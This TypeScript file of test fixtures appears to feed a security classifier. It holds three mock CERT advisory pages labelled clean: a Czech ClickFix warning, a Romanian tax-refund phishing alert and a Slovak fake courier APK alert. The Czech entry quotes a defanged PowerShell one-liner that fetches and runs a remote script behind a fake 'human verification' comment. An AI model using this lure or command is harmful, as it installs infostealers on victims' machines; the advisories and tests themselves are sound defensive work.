import { type Entry } from '../entry.js';
import { site } from '../parts/yz-kit.js';
import { apk } from '../parts/e-bin.js';

export const entries: Entry[] = [
{
  id: 'yz-clean-csirt-cz-clickfix-varovani',
  label: 'clean',
  kind: 'cert-advisory',
  url: 'https://csirt.cz/cs/aktuality/varovani-clickfix-falesne-overeni-cloveka-2025/',
  body: site({
    lang: 'cs',
    title: 'Varování: falešné „ověření člověka“ (ClickFix) na českých webech | CSIRT.CZ',
    brand: 'CSIRT.CZ',
    color: '#0b3d6b',
    nav: ['Aktuality', 'Hlášení incidentu', 'O nás'],
    main: `<h1>Varování: falešné „ověření člověka“ (ClickFix) na kompromitovaných českých webech</h1>
<p>Na několika desítkách kompromitovaných webů na WordPressu se návštěvníkům zobrazuje napodobenina kontroly Cloudflare nebo reCAPTCHA. Po kliknutí na zaškrtávací pole stránka vloží do schránky příkaz a vyzve uživatele:</p>
<blockquote>Stiskněte klávesy Windows + R, stiskněte Ctrl + V, stiskněte Enter.</blockquote>
<p>Příkaz, který se ocitne ve schránce, vypadá například takto (adresa je znefunkčněná):</p>
<pre>powershell -w h -nop -c "$r=iwr 'hxxps://recepty-cdn[.]cz-ver[.]cloud/c.txt' -UseBasicParsing;iex $r.Content" # Ověření člověka – Ray ID 8e4f1a2b9c7d3e10</pre>
<p>Komentář na konci příkazu je záměrný: v okně Spustit uživatel vidí jen text „Ověření člověka“. Stažený skript instaluje infostealer (Lumma, StealC).</p>
<h2>Doporučení</h2><ul><li>Žádná legitimní kontrola CAPTCHA po vás nikdy nebude chtít spouštět příkazy.</li><li>Správci: zkontrolujte vložené skripty v šablonách a pluginech (často se tváří jako <code>jquery.min.js</code> z cizí domény).</li><li>Organizace mohou přes GPO zakázat dialog Spustit (Win+R) běžným uživatelům.</li></ul>
<p><button class="btn" id="ioc">Kopírovat IoC</button></p>`,
    footer: 'CSIRT.CZ – Národní CSIRT České republiky · CZ.NIC, z. s. p. o.',
    tail: `<script>document.getElementById('ioc').onclick=function(){navigator.clipboard.writeText('recepty-cdn.cz-ver.cloud\\ncdn-jsdelivr.net-static.top\\nprohlizec-dokumentu.cz-docs.app').then(function(){document.getElementById('ioc').textContent='Zkopírováno'})};</script>`,
  }),
},
{
  id: 'yz-clean-dnsc-ro-alerta-anaf-rambursare',
  label: 'clean',
  kind: 'cert-advisory',
  url: 'https://dnsc.ro/citeste/alerta-campanie-phishing-anaf-rambursare-impozit',
  body: site({
    lang: 'ro',
    title: 'ALERTĂ: campanie de phishing în numele ANAF – „rambursare impozit” | DNSC',
    brand: 'DNSC',
    color: '#002b7f',
    nav: ['Știri', 'Alerte', 'Ghiduri', 'Raportează un incident'],
    main: `<h1>ALERTĂ: campanie de phishing în numele ANAF</h1>
<p>Directoratul Național de Securitate Cibernetică avertizează asupra unei campanii prin SMS și e-mail în care atacatorii se dau drept ANAF și promit o rambursare de impozit.</p>
<pre>ANAF: Aveti de primit o rambursare de 1.284,00 lei. Completati datele pana la 31.10: hxxps://anaf-gov[.]ro-rambursare[.]info/spv/...</pre>
<p>Pagina falsă copiază aspectul Spațiului Privat Virtual și solicită CNP-ul, numărul cardului, data expirării și codul CVV, apoi un cod primit prin SMS.</p>
<p><b>ANAF nu solicită niciodată datele cardului.</b> Rambursările se fac exclusiv în contul bancar declarat în SPV. Raportați mesajele suspecte la 1911.</p>`,
    footer: 'Directoratul Național de Securitate Cibernetică',
  }),
},
{
  id: 'yz-clean-csirt-sk-falosna-kurierska-aplikacia',
  label: 'clean',
  kind: 'cert-advisory',
  url: 'https://www.csirt.gov.sk/aktuality/varovanie-falosne-aplikacie-kurierov-apk-2025.html',
  body: site({
    lang: 'sk',
    title: 'Varovanie: falošné aplikácie kuriérskych spoločností (APK) | CSIRT.SK',
    brand: 'CSIRT.SK',
    color: '#0b4ea2',
    nav: ['Aktuality', 'Hlásenie incidentu', 'Publikácie'],
    main: `<h1>Varovanie: falošné aplikácie kuriérskych spoločností</h1>
<p>Útočníci rozosielajú SMS správy o nedoručenej zásielke s odkazom na stránku, ktorá vyzýva na stiahnutie „novej aplikácie“ (napr. <i>DPD Sledovanie</i>, <i>Packeta</i>, <i>InPost Mobile</i>). Súbor APK obsahuje bankový trójsky kôň, ktorý zneužíva služby zjednodušenia ovládania (Accessibility) a číta SMS.</p>
<p>Príklady súborov: <code>DPD_Sledovani.apk</code>, <code>InPost_Mobile_4.2.apk</code>, <code>IKO_Ochrona.apk</code>. Názvy balíkov: <code>cz.dpd.tracking.app</code>, <code>pl.inpost.mobile.update</code>.</p>
<h2>Odporúčania</h2><ul><li>Aplikácie inštalujte len z Google Play.</li><li>Nepovoľujte inštaláciu z neznámych zdrojov.</li><li>Ak ste aplikáciu nainštalovali, odpojte telefón od siete a kontaktujte banku.</li></ul>`,
    footer: 'CSIRT.SK · Národný bezpečnostný úrad',
  }),
},
];
